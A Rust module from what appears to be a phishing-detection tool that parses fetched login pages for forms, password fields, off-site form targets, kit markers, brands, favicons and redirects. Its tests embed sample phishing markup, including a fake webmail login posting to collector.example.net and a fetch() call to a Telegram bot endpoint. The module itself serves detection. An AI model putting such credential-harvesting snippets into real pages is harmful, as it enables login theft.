//! What a landing page is: its title and text, the forms it shows and what they ask for, where
//! they send it, which brand or webmail product it dresses up as, and whether it is gone.
//!
//! Pages are parsed with a real HTML5 parser (scraper/html5ever), because kits are copies of
//! real login pages and the questions are structural: which `input` is a password, which form
//! it belongs to, where that form posts. Nothing on the page is executed. The knowledge (kit
//! markers, field words, parking markers, exfiltration endpoints) is data in
//! `data/landing.toml`; brands come from kaibo's brand catalog.

use kaibo_core::landing::{Catalog, catalog};
use kaibo_model::visit::{Favicon, Field, Form, HopVia, KitHit, Page, PageBrand};
use scraper::{ElementRef, Html, Node, Selector};
use sha2::{Digest, Sha256};
use url::Url;

/// Records the fetched favicon on the page: its hash, and the kits (and so brands) that hash
/// names.
pub fn add_favicon(page: &mut Page, url: &str, bytes: &[u8]) {
    add_favicon_with(catalog(), page, url, bytes);
}

fn add_favicon_with(c: &Catalog, page: &mut Page, url: &str, bytes: &[u8]) {
    let sha: String = Sha256::digest(bytes).iter().map(|b| format!("{b:02x}")).collect();
    let k = kaibo_core::knowledge::knowledge();
    let host = Url::parse(&page.url)
        .ok()
        .and_then(|u| u.host_str().map(str::to_ascii_lowercase))
        .unwrap_or_default();
    for kit in c.kit.iter().filter(|kit| kit.favicon_sha256.contains(&sha)) {
        match page.kits.iter_mut().find(|h| h.kit == kit.id) {
            Some(hit) => push_unique(&mut hit.markers, "favicon"),
            None => page.kits.push(KitHit {
                kit: kit.id.clone(),
                name: kit.name.clone(),
                brand: kit.brand.clone(),
                markers: vec!["favicon".into()],
            }),
        }
        let Some(b) = k.brands.iter().find(|b| b.id == kit.brand) else { continue };
        match page.brands.iter_mut().find(|pb| pb.brand == b.id) {
            Some(pb) => push_unique(&mut pb.seen_in, "favicon"),
            None => page.brands.push(PageBrand {
                brand: b.id.clone(),
                name: b.names.first().cloned().unwrap_or_default(),
                seen_in: vec!["favicon".into()],
                owned: b.owns(&host),
            }),
        }
    }
    page.favicon = Some(Favicon { url: url.to_string(), sha256: sha, bytes: bytes.len() });
}

const MAX_TEXT: usize = 20_000;
const MAX_FIELDS: usize = 50;
const MAX_FORMS: usize = 10;
const MAX_SCRIPTS: usize = 30;

/// At most this much HTML is parsed, and no deeper than this: html5ever's scope checks walk the
/// stack of open elements, so a page of 50,000 nested `<div>`s costs seconds per thousand
/// fields. Real kits are a few hundred elements deep at most.
const MAX_PARSE_BYTES: usize = 1024 * 1024;
const MAX_PARSE_DEPTH: usize = 512;
const VOID: &[&str] = &[
    "area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "param", "source", "track",
    "wbr", "keygen", "!doctype", "!--",
];

/// The prefix of `html` that is parsed: cut at the size cap, or where nesting gets deeper than
/// the depth cap (what follows would only be more of the same attack).
fn bounded(html: &str) -> &str {
    let mut end = html.len().min(MAX_PARSE_BYTES);
    while !html.is_char_boundary(end) {
        end -= 1;
    }
    let bytes = &html.as_bytes()[..end];
    let mut depth = 0usize;
    let mut i = 0;
    while let Some(off) = memchr::memchr(b'<', &bytes[i..]) {
        let at = i + off;
        i = at + 1;
        let closing = bytes.get(i) == Some(&b'/');
        let name_start = if closing { i + 1 } else { i };
        let name: String = bytes[name_start..]
            .iter()
            .take(10)
            .take_while(|b| b.is_ascii_alphanumeric() || **b == b'!' || **b == b'-')
            .map(|b| b.to_ascii_lowercase() as char)
            .collect();
        if name.is_empty() || VOID.contains(&name.as_str()) {
            continue;
        }
        if closing {
            depth = depth.saturating_sub(1);
        } else {
            depth += 1;
            if depth > MAX_PARSE_DEPTH {
                return &html[..at];
            }
        }
    }
    &html[..end]
}

fn parse(html: &str) -> Html {
    Html::parse_document(bounded(html))
}

fn sel(s: &str) -> Selector {
    Selector::parse(s).expect("a valid selector")
}

fn collapse(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The favicon's URL: the page's `link rel=icon`, else `/favicon.ico`.
fn favicon_url(doc: &Html, base: &Url) -> Option<Url> {
    doc.select(&sel("link[rel][href]"))
        .find(|l| {
            l.value()
                .attr("rel")
                .is_some_and(|r| r.split_whitespace().any(|w| w.eq_ignore_ascii_case("icon")))
        })
        .and_then(|l| base.join(l.value().attr("href")?).ok())
        .or_else(|| base.join("/favicon.ico").ok())
        .filter(|u| matches!(u.scheme(), "http" | "https"))
}

/// A redirect the page makes without HTTP: a meta refresh, or a JavaScript assignment to
/// `location` with a string literal (read as text, never run). JavaScript is followed only on
/// pages with little to read and no password field: interstitials, not login pages that
/// happen to contain `location` somewhere.
pub fn client_redirect(html: &str, base: &Url) -> Option<(Url, HopVia)> {
    let doc = parse(html);
    for m in doc.select(&sel("meta[http-equiv][content]")) {
        if !m.value().attr("http-equiv").is_some_and(|v| v.trim().eq_ignore_ascii_case("refresh")) {
            continue;
        }
        let content = m.value().attr("content").unwrap_or("");
        let lower = content.to_ascii_lowercase();
        if let Some(i) = lower.find("url=") {
            let target = content[i + 4..].trim().trim_matches(|c| c == '\'' || c == '"');
            if let Ok(u) = base.join(target) {
                return Some((u, HopVia::MetaRefresh));
            }
        }
    }
    let has_password = doc
        .select(&sel("input"))
        .any(|i| i.value().attr("type").is_some_and(|t| t.eq_ignore_ascii_case("password")));
    if has_password || visible_text(&doc).chars().count() > 300 {
        return None;
    }
    for s in doc.select(&sel("script")) {
        if s.value().attr("src").is_some() {
            continue;
        }
        let code: String = s.text().collect();
        if let Some(target) = js_location_literal(&code)
            && let Ok(u) = base.join(&target)
        {
            return Some((u, HopVia::Javascript));
        }
    }
    None
}

/// The string literal assigned to `location` (`location = "…"`, `location.href = '…'`,
/// `location.replace("…")`, `location.assign("…")`, with `window.`/`document.`/`top.`).
fn js_location_literal(code: &str) -> Option<String> {
    let mut from = 0;
    while let Some(i) = code[from..].find("location") {
        let at = from + i + "location".len();
        from = at;
        let rest = code[at..].trim_start();
        let rest = rest.strip_prefix(".href").map(str::trim_start).unwrap_or(rest);
        let after = if let Some(r) = rest.strip_prefix('=') {
            if r.starts_with('=') {
                continue;
            }
            r.trim_start()
        } else if let Some(r) = rest.strip_prefix(".replace(").or_else(|| rest.strip_prefix(".assign(")) {
            r.trim_start()
        } else {
            continue;
        };
        let mut chars = after.chars();
        let Some(q @ ('"' | '\'' | '`')) = chars.next() else { continue };
        let literal: String = chars.by_ref().take_while(|c| *c != q).collect();
        if !literal.is_empty() && !literal.contains(['\n', '$', '+']) && literal.len() < 2048 {
            return Some(literal);
        }
    }
    None
}

fn in_hidden_subtree(e: &ElementRef) -> bool {
    e.ancestors()
        .filter_map(ElementRef::wrap)
        .any(|a| matches!(a.value().name(), "script" | "style" | "noscript" | "template" | "head" | "title"))
}

fn visible_text(doc: &Html) -> String {
    let mut out = String::new();
    for node in doc.tree.root().descendants() {
        if let Node::Text(t) = node.value() {
            let Some(parent) = node.parent().and_then(ElementRef::wrap) else { continue };
            if matches!(parent.value().name(), "script" | "style" | "noscript" | "template" | "title")
                || in_hidden_subtree(&parent)
            {
                continue;
            }
            let t = t.trim();
            if !t.is_empty() {
                out.push_str(t);
                out.push(' ');
            }
            if out.len() > MAX_TEXT {
                break;
            }
        }
    }
    collapse(&out)
}

fn classify_field(c: &Catalog, kind: &str, attrs: &[&str]) -> Option<String> {
    if matches!(kind, "submit" | "button" | "image" | "reset" | "checkbox" | "radio" | "file") {
        return None;
    }
    let hay: String = attrs.iter().map(|a| a.to_lowercase()).collect::<Vec<_>>().join(" ");
    c.ask
        .iter()
        .find(|a| {
            a.types.iter().any(|t| t == kind)
                || (kind != "hidden" && a.words.iter().any(|w| hay.contains(w.as_str())))
        })
        .map(|a| a.id.clone())
}

fn push_unique(v: &mut Vec<String>, s: impl Into<String>) {
    let s = s.into();
    if !v.contains(&s) {
        v.push(s);
    }
}

fn host_domain(u: &Url) -> Option<String> {
    let h = u.host_str()?.trim_matches(['[', ']']);
    kaibo_core::urls::registrable_domain(h).or_else(|| Some(h.to_ascii_lowercase()))
}

/// Mail addresses in `s` (plain, percent-encoded, or base64 as kits put them in fragments).
fn addresses_in(s: &str, out: &mut Vec<String>) {
    use base64::Engine as _;
    let mut candidates = vec![s.to_string()];
    candidates.push(s.replace("%40", "@").replace("%2540", "@"));
    for piece in s.split(['#', '?', '&', '=', '/']) {
        if piece.len() >= 8 && piece.len() <= 400 {
            for engine in
                [&base64::engine::general_purpose::STANDARD, &base64::engine::general_purpose::URL_SAFE]
            {
                if let Ok(bytes) =
                    engine.decode(piece.trim_end_matches('=')).or_else(|_| engine.decode(piece))
                    && let Ok(text) = String::from_utf8(bytes)
                {
                    candidates.push(text);
                }
            }
        }
    }
    for c in candidates {
        for word in c.split(|ch: char| ch.is_whitespace() || "\"'<>,;&?=#/()[]".contains(ch)) {
            let word = word.trim_matches('.');
            if let Some((local, domain)) = word.split_once('@')
                && !local.is_empty()
                && domain.contains('.')
                && !domain.contains('@')
                && word.len() <= 254
            {
                push_unique(out, word.to_ascii_lowercase());
            }
        }
    }
}

/// Analyses the final page of a visit: the page, and where its favicon would be fetched from
/// (`link rel=icon`, else `/favicon.ico`); [`add_favicon`] records it once fetched.
pub fn analyze_page(url: &Url, html: &str) -> (Page, Option<Url>) {
    let c = catalog();
    let doc = parse(html);
    let mut page = Page { url: url.to_string(), ..Default::default() };
    page.title = doc
        .select(&sel("title"))
        .next()
        .map(|t| collapse(&t.text().collect::<String>()))
        .filter(|t| !t.is_empty());
    let text = visible_text(&doc);
    page.text_excerpt = text.chars().take(400).collect();
    read_forms(&mut page, &doc, url);

    // Scripts and where typed secrets may go.
    for s in doc.select(&sel("script[src]")).take(MAX_SCRIPTS) {
        if let Some(u) = s.value().attr("src").and_then(|src| url.join(src).ok()) {
            push_unique(&mut page.scripts, u.to_string());
        }
    }
    // Kits give themselves away in their source and in their paths (`/am_bin/`, `/owa/`).
    let raw_lower = format!("{url}\n{html}").to_lowercase();
    for m in &c.exfiltration.markers {
        if raw_lower.contains(m.as_str()) {
            push_unique(&mut page.exfiltration, m.clone());
        }
    }
    let favicon = favicon_url(&doc, url);
    let text_lower = text.to_lowercase();
    find_kits(&mut page, &text_lower, &raw_lower);
    find_brands(&mut page, &doc, &text, url);

    // Parked or suspended.
    let head: String = text_lower.chars().take(4000).collect();
    page.parked = c
        .parked
        .markers
        .iter()
        .find(|m| head.contains(m.as_str()) || (m.contains('.') && raw_lower.contains(m.as_str())))
        .cloned();
    (page, favicon)
}

/// The forms, and the password fields outside any form (pages that submit by script); what they
/// ask for, and the addresses prefilled in them or in the page's URL.
fn read_forms(page: &mut Page, doc: &Html, url: &Url) {
    let c = catalog();
    let page_domain = host_domain(url);
    let field_of = |e: ElementRef| -> Field {
        let v = e.value();
        let kind = match v.name() {
            "input" => v.attr("type").unwrap_or("text").to_ascii_lowercase(),
            other => other.to_string(),
        };
        let attrs: Vec<&str> = ["name", "id", "placeholder", "autocomplete", "aria-label", "title"]
            .iter()
            .filter_map(|a| v.attr(a))
            .collect();
        let value = (kind == "hidden")
            .then(|| v.attr("value").map(|s| s.chars().take(200).collect::<String>()))
            .flatten();
        Field {
            name: v.attr("name").map(str::to_string),
            asks: classify_field(c, &kind, &attrs),
            kind,
            value,
        }
    };
    let fields_sel = sel("input, select, textarea");
    for f in doc.select(&sel("form")).take(MAX_FORMS) {
        let action = f
            .value()
            .attr("action")
            .map(str::trim)
            .filter(|a| !a.is_empty() && *a != "#")
            .and_then(|a| url.join(a).ok());
        let fields: Vec<Field> = f.select(&fields_sel).take(MAX_FIELDS).map(field_of).collect();
        page.forms.push(make_form(action, f.value().attr("method"), fields, page_domain.as_deref()));
    }
    let loose: Vec<Field> = doc
        .select(&fields_sel)
        .filter(|e| !e.ancestors().filter_map(ElementRef::wrap).any(|a| a.value().name() == "form"))
        .take(MAX_FIELDS)
        .map(field_of)
        .collect();
    if loose.iter().any(|f| f.kind == "password") {
        page.forms.push(make_form(None, None, loose, page_domain.as_deref()));
    }
    for f in &page.forms {
        for a in &f.asks_for {
            push_unique(&mut page.asks_for, a.clone());
        }
        for field in &f.fields {
            if let Some(v) = &field.value {
                addresses_in(v, &mut page.addresses);
            }
        }
    }
    addresses_in(url.as_str(), &mut page.addresses);
}

/// Login kits recognised by their title, their source and (on a page asking for a password)
/// their text.
fn find_kits(page: &mut Page, text_lower: &str, raw_lower: &str) {
    let title_lower = page.title.as_deref().unwrap_or("").to_lowercase();
    let has_password = page.asks_for_password();
    for kit in &catalog().kit {
        let mut markers = Vec::new();
        if let Some(m) = kit.title.iter().find(|m| title_lower.contains(m.as_str())) {
            markers.push(format!("title: {m}"));
        }
        for m in kit.html.iter().filter(|m| raw_lower.contains(m.as_str())).take(3) {
            markers.push(format!("html: {m}"));
        }
        if has_password && let Some(m) = kit.text.iter().find(|m| text_lower.contains(m.as_str())) {
            markers.push(format!("text: {m}"));
        }
        if !markers.is_empty() {
            page.kits.push(KitHit {
                kit: kit.id.clone(),
                name: kit.name.clone(),
                brand: kit.brand.clone(),
                markers,
            });
        }
    }
}

/// Brands the page shows: in the title, the text, image alt texts, a form's target, and
/// through kits; and whether the page's host is the brand's own.
fn find_brands(page: &mut Page, doc: &Html, text: &str, url: &Url) {
    let k = kaibo_core::knowledge::knowledge();
    let page_host = url.host_str().unwrap_or("").trim_matches(['[', ']']).to_ascii_lowercase();
    let alts: String =
        doc.select(&sel("img[alt]")).filter_map(|i| i.value().attr("alt")).collect::<Vec<_>>().join(" \n ");
    let mut seen: Vec<(usize, String, Vec<String>)> = Vec::new();
    let mut note = |bi: usize, name: &str, place: &str| match seen.iter_mut().find(|(b, _, _)| *b == bi) {
        Some((_, _, places)) => push_unique(places, place),
        None => seen.push((bi, name.to_string(), vec![place.to_string()])),
    };
    for (source, place) in
        [(page.title.as_deref().unwrap_or(""), "title"), (text, "text"), (alts.as_str(), "image alt")]
    {
        for (bi, name) in k.brand_mentions(source) {
            note(bi, name, place);
        }
    }
    // A form that posts to a brand's own host (kits relay to the real sign-in to validate
    // what they stole) names the brand too.
    for f in &page.forms {
        let Some(host) = &f.action_host else { continue };
        if let Some(bi) = k.brands.iter().position(|b| b.owns(host)) {
            let name = k.brands[bi].names.first().cloned().unwrap_or_default();
            note(bi, &name, "form action");
        }
    }
    for hit in &page.kits {
        if let Some(bi) = k.brands.iter().position(|b| b.id == hit.brand) {
            let name = k.brands[bi].names.first().cloned().unwrap_or_default();
            note(bi, &name, "kit");
        }
    }
    for (bi, name, seen_in) in seen {
        let b = &k.brands[bi];
        page.brands.push(PageBrand { brand: b.id.clone(), name, seen_in, owned: b.owns(&page_host) });
    }
}

fn make_form(
    action: Option<Url>,
    method: Option<&str>,
    fields: Vec<Field>,
    page_domain: Option<&str>,
) -> Form {
    let action_host = action.as_ref().and_then(|a| a.host_str().map(|h| h.to_ascii_lowercase()));
    let offsite = match &action {
        Some(a) if a.scheme() == "mailto" => true,
        Some(a) if matches!(a.scheme(), "http" | "https") => host_domain(a).as_deref() != page_domain,
        _ => false,
    };
    let mut asks_for = Vec::new();
    for f in &fields {
        if let Some(a) = &f.asks {
            push_unique(&mut asks_for, a.clone());
        }
    }
    Form {
        action: action.map(|a| a.to_string()),
        method: method.unwrap_or("get").to_ascii_lowercase(),
        action_host,
        offsite,
        has_password: fields.iter().any(|f| f.kind == "password"),
        fields,
        asks_for,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The page alone.
    fn page_at(u: &Url, html: &str) -> Page {
        analyze_page(u, html).0
    }

    fn url(s: &str) -> Url {
        Url::parse(s).unwrap()
    }

    #[test]
    fn catalog_loads_and_names_known_brands() {
        let k = kaibo_core::knowledge::knowledge();
        for kit in &catalog().kit {
            assert!(
                k.brands.iter().any(|b| b.id == kit.brand),
                "kit {} names unknown brand {}",
                kit.id,
                kit.brand
            );
        }
        assert!(catalog().ask.iter().any(|a| a.id == "password"));
        assert_eq!(catalog().ask_label("card_number", true), Some("カード番号"));
        assert!(catalog().ask.iter().all(|a| !a.en.is_empty() && !a.ja.is_empty()));
    }

    #[test]
    fn active_mail_kit_with_prefilled_recipient() {
        let html = r#"<html><head><title>Active! mail ログイン</title>
            <script src="/js/jquery.min.js"></script></head><body>
            <img src="logo.png" alt="Active! mail">
            <form method="POST" action="https://collector.example.net/post.php">
              <input type="hidden" name="acc" value="taro@example.co.jp">
              <input type="text" name="user_id" placeholder="ユーザーID">
              <input type="password" name="password">
              <input type="submit" value="ログイン">
            </form><p>Copyright QUALITIA CO., LTD.</p></body></html>"#;
        let p = page_at(&url("https://mail-sync.aorz.ru/am_bin/amlogin"), html);
        assert_eq!(p.title.as_deref(), Some("Active! mail ログイン"));
        assert!(p.asks_for_password());
        assert_eq!(p.asks_for, vec!["email_or_user_id", "password"]);
        let f = &p.forms[0];
        assert!(f.offsite, "posts to another domain");
        assert_eq!(f.action_host.as_deref(), Some("collector.example.net"));
        assert_eq!(p.addresses, vec!["taro@example.co.jp"]);
        assert_eq!(p.kits[0].kit, "active_mail");
        assert!(p.kits[0].markers.iter().any(|m| m == "html: /am_bin/"));
        let b = p.brands.iter().find(|b| b.brand == "active_mail").unwrap();
        assert!(!b.owned);
        assert!(b.seen_in.contains(&"title".to_string()));
        assert_eq!(p.scripts, vec!["https://mail-sync.aorz.ru/js/jquery.min.js"]);
    }

    #[test]
    fn brand_on_its_own_domain_is_owned() {
        let html = "<title>Sign in to your account</title><body>Microsoft<form><input type=email name=loginfmt><input type=password name=passwd></form>";
        let p = page_at(&url("https://login.microsoftonline.com/"), html);
        let b = p.brands.iter().find(|b| b.brand == "microsoft365").unwrap();
        assert!(b.owned);
        assert!(!p.forms[0].offsite);
    }

    #[test]
    fn address_in_base64_fragment_and_script_form() {
        // taro@example.jp in base64, and a password field with no form (submitted by script).
        let html = "<body><input type=password id=pw><script>fetch('https://api.telegram.org/bot123/sendMessage')</script>";
        let p = page_at(&url("https://x.example/#dGFyb0BleGFtcGxlLmpw"), html);
        assert_eq!(p.addresses, vec!["taro@example.jp"]);
        assert!(p.asks_for_password());
        assert_eq!(p.exfiltration, vec!["api.telegram.org/bot"]);
    }

    #[test]
    fn client_redirects() {
        let base = url("http://a.example/start");
        let meta = r#"<meta http-equiv="Refresh" content="0; URL='/next?x=1'">"#;
        assert_eq!(
            client_redirect(meta, &base).unwrap(),
            (url("http://a.example/next?x=1"), HopVia::MetaRefresh)
        );
        let js = r#"<script>window.location.href = "https://b.example/login";</script>"#;
        assert_eq!(client_redirect(js, &base).unwrap(), (url("https://b.example/login"), HopVia::Javascript));
        let js2 = r#"<script>if (a == b) {} location.replace('/x')</script>"#;
        assert_eq!(client_redirect(js2, &base).unwrap().0, url("http://a.example/x"));
        // Computed targets are not guessed; login pages are not left.
        assert!(client_redirect("<script>location = base + '/x'</script>", &base).is_none());
        assert!(client_redirect("<input type=password><script>location='/x'</script>", &base).is_none());
        assert!(client_redirect("<script>if (location == 'x') {}</script>", &base).is_none());
    }

    #[test]
    fn form_posting_to_a_brand_names_it() {
        let html = r#"<form action="https://login.microsoftonline.com/common/login" method=post>
            <input name=login><input type=password name=passwd></form>"#;
        let p = page_at(&url("https://secure-docs.example.net/"), html);
        let b = p.brands.iter().find(|b| b.brand == "microsoft365").unwrap();
        assert!(b.seen_in.iter().any(|s| s == "form action"), "{:?}", b.seen_in);
        assert!(!b.owned);
    }

    #[test]
    fn parked_page() {
        let p = page_at(&url("http://gone.example/"), "<h1>This domain is for sale!</h1>");
        assert_eq!(p.parked.as_deref(), Some("this domain is for sale"));
    }

    #[test]
    fn favicon_is_hashed_and_found() {
        let base = url("https://x.example/a/b");
        assert_eq!(analyze_page(&base, "<p>").1.unwrap().as_str(), "https://x.example/favicon.ico");
        let (mut p, icon) =
            analyze_page(&base, r#"<link rel="shortcut icon" href="/i.png"><title>Sign in</title>"#);
        assert_eq!(icon.unwrap().as_str(), "https://x.example/i.png");
        // A catalog that knows this icon (sha256 of "abc") as a Roundcube kit's.
        let text = include_str!("../../../data/landing.toml").replace(
            "favicon_sha256 = []\n\n[[kit]]\nid = \"outlook_web_app\"",
            "favicon_sha256 = [\"ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\"]\n\n[[kit]]\nid = \"outlook_web_app\"",
        );
        let c = Catalog::parse(&text).unwrap();
        add_favicon_with(&c, &mut p, "https://x.example/i.png", b"abc");
        assert_eq!(
            p.favicon.as_ref().unwrap().sha256,
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
        assert_eq!(p.kits[0].kit, "roundcube");
        assert_eq!(p.kits[0].markers, vec!["favicon"]);
        let b = p.brands.iter().find(|b| b.brand == "roundcube").unwrap();
        assert_eq!(b.seen_in, vec!["favicon"]);
        assert!(!b.owned);
        // An unknown icon is hashed, and names nothing.
        let mut q = analyze_page(&base, "<p>").0;
        add_favicon(&mut q, "https://x.example/favicon.ico", b"other");
        assert!(q.kits.is_empty() && q.favicon.is_some());
    }

    #[test]
    fn hostile_markup_is_bounded() {
        let started = std::time::Instant::now();
        let deep = "<div>".repeat(50_000) + &"<input>".repeat(10_000) + "<form><input type=password></form>";
        let p = page_at(&url("http://x.example/"), &deep);
        assert!(p.forms.is_empty(), "what lies below the depth cap is not read");
        let wide = "<p>x</p>".repeat(300_000);
        let p = page_at(&url("http://x.example/"), &wide);
        assert!(p.text_excerpt.starts_with("x x x"));
        assert!(started.elapsed() < std::time::Duration::from_secs(5), "took {:?}", started.elapsed());
        // Void elements and comments do not count as nesting.
        let flat = "<br>".repeat(5_000) + "<!-- c --><form><input type=password></form>";
        assert!(page_at(&url("http://x.example/"), &flat).asks_for_password());
    }
}
